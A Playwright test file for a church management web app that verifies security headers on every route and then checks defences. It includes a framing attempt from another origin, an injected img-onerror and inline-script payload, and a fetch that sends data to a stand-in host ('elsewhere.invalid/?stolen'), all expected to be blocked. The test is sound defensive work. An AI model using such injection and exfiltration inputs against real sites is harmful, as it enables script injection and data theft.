import { readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import { expect } from '@playwright/test'
import type { Page } from '@playwright/test'
import { databaseOf, foundChurch, makeAdmin } from './church.ts'
import { journeysOrigin } from './place.ts'
import { test } from './watched-test.ts'

/** Every address of the app, as the router has them ('/members/$id'). */
function routePaths(): string[] {
  const tree = readFileSync(resolve(import.meta.dirname, '../../route-tree.gen.ts'), 'utf8')
  const [, byTo = ''] = /interface FileRoutesByTo \{([^}]*)\}/.exec(tree) ?? []
  return [...byTo.matchAll(/'(\/[^']*)': typeof/g)].map(([, path = '']) => path)
}

/** The id of one new thing of each kind, by the first part of its address. */
async function addOneOfEach(username: string): Promise<Record<string, string>> {
  const db = await databaseOf(username)
  const idOf = async (written: PromiseLike<{ data: { id: string }[] | null; error: Error | null }>) => {
    const { data, error } = await written
    if (error) throw error
    return data?.[0]?.id ?? ''
  }
  const dated = { service_name: 'Worship', instance_date: '2026-05-31', start_time: '10:00' }
  const sermon = { title: 'Gleaning', speaker: 'Naomi', sermon_date: '2026-05-31' }
  const event = { name: 'Picnic', start_date: '2099-06-01T12:00:00Z' }
  return {
    members: await idOf(db.from('members').insert({ first_name: 'Ruth', last_name: 'Moab' }).select('id')),
    services: await idOf(db.from('services').insert({ name: 'Evensong' }).select('id')),
    'service-instances': await idOf(db.from('service_instances').insert(dated).select('id')),
    events: await idOf(db.from('events').insert(event).select('id')),
    sermons: await idOf(db.from('sermons').insert(sermon).select('id')),
  }
}

test('no page does what the site’s own headers refuse, in either theme', async ({ page, context }) => {
  const username = await foundChurch(context)
  await makeAdmin(username)
  const ids = await addOneOfEach(username)
  const paths = routePaths()
  expect(paths.length).toBeGreaterThan(30)
  await page.addInitScript(() => localStorage.setItem('narthex.theme', 'dark'))
  await page.goto('/dashboard')
  for (const path of [...paths, '/nothing-here']) {
    const address = path.replace('$id', ids[path.split('/')[1] ?? ''] ?? '')
    const answer = await page.request.get(address)
    expect(answer.headers(), path).toMatchObject({
      'content-security-policy': expect.stringContaining("default-src 'none'; script-src 'self' 'wasm-unsafe-eval';"),
      'permissions-policy': expect.stringContaining('camera=(self)'),
      'x-content-type-options': 'nosniff',
    })
    await follow(page, address)
    await expect(page.getByRole('heading', { level: 1 }), path).toBeVisible()
    expect(await page.evaluate(() => [document.documentElement.dataset.theme, crossOriginIsolated])).toEqual([
      'dark',
      true,
    ])
  }
})

/**
 * Goes to a page as its links do, which takes a tenth of loading it anew. The page before is gone when it resolves, unless
 * the address leads back to it, as `/login` leads those who are signed in.
 */
async function follow(page: Page, address: string): Promise<void> {
  await page.evaluate(async (to) => {
    const before = document.querySelector('h1')
    const isStillThere = () => before?.isConnected === true
    history.pushState(null, '', to)
    dispatchEvent(new PopStateEvent('popstate'))
    const end = performance.now() + 3000
    while (isStillThere() && performance.now() < end) await new Promise((later) => setTimeout(later, 16))
  }, address)
}

test('no page is shown in a frame of another site, and a script that gets into a page does not run', async ({
  browser,
}) => {
  const page = await browser.newPage()
  await page.route('http://elsewhere.localhost/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${journeysOrigin()}/login"></iframe>` }),
  )
  await page.goto('http://elsewhere.localhost/')
  await expect.poll(() => page.frames()[1]?.url()).toContain('chrome-error:')
  await page.goto(`${journeysOrigin()}/login`)
  await page.evaluate(() => {
    document.body.insertAdjacentHTML('beforeend', '<img src="/nothing" onerror="globalThis.ran = true">')
    const script = document.createElement('script')
    script.textContent = 'globalThis.ran = true'
    document.body.append(script)
  })
  await page.waitForLoadState('networkidle')
  expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false)
  await page.route('https://elsewhere.invalid/**', (route) =>
    route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: 'stolen' }),
  )
  const outcome = page.evaluate(() => fetch('https://elsewhere.invalid/?stolen').catch((error: Error) => error.message))
  expect(await outcome).toBe('Failed to fetch')
  await page.close()
})
